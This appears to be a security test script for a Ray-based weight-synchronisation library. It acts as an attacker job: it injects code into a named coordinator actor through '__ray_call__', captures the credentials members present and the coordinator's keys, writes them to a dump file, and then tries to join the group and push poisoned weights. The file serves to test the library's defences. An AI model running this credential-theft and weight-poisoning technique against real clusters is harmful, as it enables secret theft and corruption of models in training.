"""A second Ray job that runs its own code inside group GROUP's coordinator (Ray's built-in
``__ray_call__`` runs any callable on any actor it holds a handle to, and a named actor's handle is one
``get_actor`` away from any namespace), keeps whatever the group's members present to the coordinator's
admission check, then tries to join the group as source 0 with each thing it kept and push version
1000 of -666.0. Run as a script:

    python -m tests.security._ray_call_thief ADDRESS VICTIM GROUP DUMP_PATH

It writes every value it collected (the members' presented credentials and the coordinator's own
attributes) to DUMP_PATH, and prints one JSON line: what it found and what each join attempt got. Last,
it joins as source 0 with the key the coordinator checks members with (code inside the coordinator can
always do what the coordinator does) and pushes, to show what that key is worth to the engines.
"""

from __future__ import annotations

import json
import sys
import time
from typing import Any

import ray
import torch

import weightsync as ws
from weightsync.control.group import actor_name

LISTEN_S = 12.0  # past one poll of every member's watcher


def _attempt(fn: Any) -> str:
    """'accepted: <value>' or the error's type and message (whole enough to hold the reason at the end of
    a refusal, after a peer description that names the GPU where there is one)."""
    try:
        return f"accepted: {fn()!r}"[:2000]
    except Exception as exc:  # every refusal is recorded, whatever its type
        cause = getattr(exc, "cause", None) or exc
        return f"{type(cause).__name__}: {cause}"[:2000]


def _install(coord: Any) -> list[str]:
    """Runs in the coordinator: wraps its admission check so that it keeps what callers present."""
    kept: list[Any] = []
    check = coord._admit

    def keeping(presented: Any, *args: Any, **kwargs: Any) -> Any:
        kept.append(presented)
        return check(presented, *args, **kwargs)

    coord._admit = keeping
    coord._kept_by_thief = kept
    return sorted(vars(coord))


def _collect(coord: Any) -> dict[str, list[str]]:
    """Runs in the coordinator: what it kept, and every str/bytes attribute of the coordinator."""
    def flat(value: Any) -> list[str]:
        if isinstance(value, str):
            return [value]
        if isinstance(value, bytes):
            return [value.decode(errors="replace"), value.hex()]
        if isinstance(value, (tuple, list)):
            return [x for v in value for x in flat(v)]
        return [repr(value)]

    presented = [x for v in coord._kept_by_thief for x in flat(v)]
    # Its own attributes and those of the objects it holds (one level down).
    values = list(vars(coord).values())
    values += [x for v in list(values) if hasattr(v, "__dict__") for x in vars(v).values()]
    attributes = [x for v in values if isinstance(v, (str, bytes)) for x in flat(v)]
    keys = [v.hex() for v in values if isinstance(v, bytes) and len(v) == 32]
    return {"presented": presented, "attributes": attributes, "keys": keys}


def main(address: str, victim: str, group: str, dump: str) -> None:
    result: dict[str, Any] = {}
    ray.init(address=address, namespace="thief", log_to_driver=False)
    named = ray.util.list_named_actors(all_namespaces=True)
    where = [a for a in named if a["name"] == actor_name(group)]
    result["found"] = where
    coord = ray.get_actor(actor_name(group), namespace=where[0]["namespace"])
    result["installed"] = _attempt(lambda: ray.get(coord.__ray_call__.remote(_install), timeout=30))
    time.sleep(LISTEN_S)
    loot = ray.get(coord.__ray_call__.remote(_collect), timeout=30)
    with open(dump, "w") as f:
        json.dump(loot, f)
    ray.shutdown()

    # Join as source 0 with every string it kept that could be a secret, and push version 1000.
    ray.init(address=address, namespace=victim, log_to_driver=False)
    w = torch.full((1024,), -666.0)
    candidates = sorted({x for x in loot["presented"] + loot["attributes"] if len(x) >= 16})
    result["candidates"] = len(candidates)
    sources = []

    def join_and_push(secret: str) -> str:
        src = ws.Source(group, 0, {"w": w}, timeout=10, secret=secret)
        sources.append(src)
        return repr(ws.push(src, version=1000, timeout=10))

    result["joins"] = [_attempt(lambda s=s: join_and_push(s)) for s in candidates]

    # With a key the coordinator holds (it checks members with it), join as source 0: the coordinator
    # admits that, but the engine it joins with has no key the destination's engine accepts.
    import weightsync.control.client as client

    stolen = [bytes.fromhex(k) for k in loot["keys"]]
    result["key_joins"] = []
    for key in stolen:
        client.admission_key = lambda secret, group, key=key: key  # type: ignore[assignment]
        result["key_joins"].append(_attempt(lambda: join_and_push("thief-does-not-know-it-" + "0" * 9)))
    print(json.dumps(result), flush=True)
    ray.shutdown()


if __name__ == "__main__":
    main(*sys.argv[1:5])
